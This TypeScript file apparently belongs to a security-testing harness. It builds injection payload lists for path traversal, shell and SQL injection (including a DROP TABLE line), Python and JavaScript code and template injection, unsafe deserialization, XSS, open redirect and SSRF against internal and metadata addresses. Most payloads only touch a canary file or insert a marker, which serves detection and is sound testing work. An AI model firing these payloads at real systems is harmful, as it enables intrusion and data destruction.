import type { Family } from "./plan.ts";

/** Where the payload of one shot leads. */
export interface Aim {
  /** Absolute path that a successful attack makes. */
  readonly canary: string;
  /** A secret file outside of every folder the code may use. */
  readonly secret: string;
  /** Secret files beside such folders, whose folder's name begins with theirs: `../base-x/secret`. */
  readonly siblings: readonly string[];
  /** Letters and digits that occur nowhere else. */
  readonly mark: string;
  readonly language: "python" | "javascript";
}

const UP = "../".repeat(12);

/** Payload texts of a family, the plainest first. */
export function payloads(family: Family, aim: Aim): string[] {
  return PAYLOADS[family](aim);
}

const PAYLOADS: Readonly<Record<Family, (aim: Aim) => string[]>> = {
  "path-traversal": ({ secret, siblings }) => [
    UP + secret.slice(1),
    secret,
    `x/${UP}${secret.slice(1)}`,
    `${"....//".repeat(12)}${secret.slice(1)}`,
    `${"..././".repeat(12)}${secret.slice(1)}`,
    `/${UP}${secret.slice(1)}`,
    encodeURIComponent(UP + secret.slice(1)),
    encodeURIComponent(encodeURIComponent(UP + secret.slice(1))),
    ...siblings.map((sibling) => `../${sibling.split("/").slice(-2).join("/")}`),
  ],
  "command-injection": ({ canary }) => [
    `x; touch ${canary}`,
    `x; touch ${canary} #`,
    `$(touch ${canary})`,
    `\`touch ${canary}\``,
    `x | touch ${canary}`,
    `x && touch ${canary}`,
    `x || touch ${canary}`,
    `x & touch ${canary}`,
    `x\ntouch ${canary}\n`,
    `x'; touch ${canary} #`,
    `x"; touch ${canary} #`,
    `x' || touch ${canary} || '`,
    `x\\'; touch ${canary} #`,
    `x;touch\${IFS}${canary}`,
    `x|tee\${IFS}${canary}`,
    `x&&touch\t${canary}`,
    `x$(touch\${IFS}${canary})`,
  ],
  "sql-injection": ({ mark }) => [
    `${mark}' OR '1'='1`,
    `${mark}" OR "1"="1`,
    `1 OR ${mark} = ${mark}`,
    `${mark}'; DROP TABLE users; --`,
    `${mark}\\' OR 1=1 -- `,
    `${mark}''' OR ''1''=''1`,
    `1/**/OR/**/${mark}/**/=/**/${mark}`,
    `${mark}'/**/OR/**/'1'='1`,
    `${mark}') OR ('1'='1`,
    `id, ${mark}`,
    `id; DELETE FROM ${mark}`,
  ],
  "code-injection": ({ canary, language }) =>
    language === "python"
      ? [
          `__import__("pathlib").Path("${canary}").touch()`,
          `__import__('pathlib').Path('${canary}').touch()`,
          `import pathlib; pathlib.Path("${canary}").touch()`,
          `getattr(__import__("o"+"s"), "mk"+"dir")("${canary}")`,
          `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["mkdir"]("${canary}")`,
          `1) or __import__("os").mkdir("${canary}") or (1`,
          `"+str(__import__("os").mkdir("${canary}"))+"`,
          `'+str(__import__('os').mkdir('${canary}'))+'`,
          `{{ cycler.__init__.__globals__.os.mkdir("${canary}") }}`,
          `{{ ''.__class__.__base__.__subclasses__() | map(attribute='__init__') | list and cycler.__init__.__globals__.os.mkdir("${canary}") }}`,
        ]
      : [
          `process.getBuiltinModule("fs").mkdirSync("${canary}")`,
          `process.getBuiltinModule('fs').mkdirSync('${canary}')`,
          `globalThis["pro"+"cess"].getBuiltinModule("fs").mkdirSync("${canary}")`,
          `this.constructor.constructor("return process")().getBuiltinModule("fs").mkdirSync("${canary}")`,
          `[].constructor.constructor("return process")().getBuiltinModule("fs").mkdirSync("${canary}")`,
          `1);process.getBuiltinModule("fs").mkdirSync("${canary}");(1`,
          `1;process.getBuiltinModule("fs").mkdirSync("${canary}")//`,
          `"+process.getBuiltinModule("fs").mkdirSync("${canary}")+"`,
          `'+process.getBuiltinModule('fs').mkdirSync('${canary}')+'`,
        ],
  deserialization: ({ canary, language }) => {
    if (language === "javascript")
      return [`{"rce":"_$$ND_FUNC$$_function (){process.getBuiltinModule('fs').mkdirSync('${canary}')}()"}`];
    const pickled = `cposix\nmkdir\n(V${canary}\ntR.`;
    return [
      `!!python/object/apply:os.mkdir ["${canary}"]`,
      `!!python/object/new:os.mkdir ["${canary}"]`,
      pickled,
      Buffer.from(pickled).toString("base64"),
      Buffer.from(pickled).toString("hex"),
      `{"py/reduce": [{"py/type": "os.mkdir"}, {"py/tuple": ["${canary}"]}]}`,
    ];
  },
  "cross-site-scripting": ({ mark }) => [
    `<x${mark} y=1>`,
    `"><x${mark} y=1>`,
    `'><x${mark} y=1>`,
    `" on${mark}=1 z="`,
    `' on${mark}=1 z='`,
    `x on${mark}=1 z`,
    `</script><x${mark} y=1>`,
    `</title><x${mark} y=1>`,
    `--><x${mark} y=1>`,
    `<sc<script>ript><x${mark} y=1>`,
    `<script>/*</script><x${mark} y=1>*/`,
    `<<x${mark} y=1>`,
    `<X${mark}/y=1>`,
    `javascript:${mark}()`,
    ` JaVaScRiPt:${mark}()`,
  ],
  "open-redirect": ({ mark }) => [
    `https://${mark}.example/`,
    `//${mark}.example/`,
    `/\\${mark}.example/`,
    `\\\\${mark}.example/`,
    `https:${mark}.example/`,
    `///${mark}.example/`,
    `/\t/${mark}.example/`,
    `HTTPS://${mark}.example/`,
    `https://localhost@${mark}.example/`,
    ` https://${mark}.example/`,
  ],
  "request-forgery": ({ mark }) => [
    `http://127.0.0.1:9/${mark}`,
    `http://localhost:9/${mark}`,
    `http://169.254.169.254/${mark}`,
    `http://[::1]:9/${mark}`,
    `http://10.0.0.1/${mark}`,
    `http://2130706433:9/${mark}`,
    `http://0.0.0.0:9/${mark}`,
    `http://example.com@127.0.0.1:9/${mark}`,
    `http://${mark}.internal.example/`,
    `https://${mark}.internal.example/`,
  ],
  "temporary-file": () => ["(a link waits at the file's name)"],
  "weak-random": () => ["(the generator starts from a known seed)"],
  "weak-hash": () => ["(any input)"],
  "certificate-validation": () => ["(a server with a false certificate)"],
};

const FAMILIES: ReadonlySet<string> = new Set(Object.keys(PAYLOADS));

export function isFamily(name: string): name is Family {
  return FAMILIES.has(name);
}

/** Families whose attack needs no argument: the environment is the attacker. */
export function attacksEnvironment(family: Family): boolean {
  return ["temporary-file", "weak-random", "weak-hash", "certificate-validation"].includes(family);
}
